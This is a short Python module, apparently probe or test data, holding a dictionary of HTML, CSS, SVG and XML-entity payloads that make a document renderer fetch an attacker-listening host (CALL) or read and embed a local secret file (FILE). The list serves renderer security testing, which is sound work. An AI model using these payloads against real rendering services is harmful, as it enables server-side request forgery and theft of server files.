"""Markup that makes a renderer fetch. CALL is a listening host and port, FILE a secret file."""

import base64

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
_NESTED = base64.b64encode(f"{_SVG}<image xlink:href='http://127.0.0.1:9/'/></svg>".encode())

FETCHING = {
    "image": "<img src='http://CALL/a.png'>",
    "image file": "<img src='FILE'>",
    "picture": "<picture><source srcset='http://CALL/a.png'><img src='http://CALL/b.png'></picture>",
    "style sheet": "<link rel=stylesheet href='http://CALL/a.css'>",
    "import": "<style>@import url(http://CALL/a.css);</style>",
    "import file": "<style>@import url(FILE);</style>",
    "font": "<style>@font-face{font-family:x;src:url(http://CALL/a.ttf)}*{font-family:x}</style>",
    "background": "<p style='background:url(http://CALL/a.png)'>x",
    "page background": "<style>@page{background:url(http://CALL/a.png)}</style>",
    "list": "<ul style='list-style-image:url(http://CALL/a.png)'><li>x</ul>",
    "content": "<style>p::before{content:url(http://CALL/a.png)}</style><p>x",
    "attachment link": "<link rel=attachment href='FILE'>",
    "attachment anchor": "<a rel=attachment href='FILE'>x</a>",
    "object": "<object data='http://CALL/a.svg'></object><object data='FILE'></object>",
    "embed": "<embed src='http://CALL/a.svg'><embed src='FILE'>",
    "frame": "<iframe src='http://CALL/'></iframe><iframe src='FILE'></iframe>",
    "svg image": f"{_SVG}<image xlink:href='http://CALL/a.png'/><image href='FILE'/></svg>",
    "svg use": f"{_SVG}<use href='http://CALL/a.svg#x'/><use href='FILE#x'/></svg>",
    "svg in data": f"<img src='data:image/svg+xml;base64,{_NESTED.decode()}'>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'FILE'>]><p>&e;</p>",
    "base": "<base href='http://CALL/'><img src='a.png'>",
}
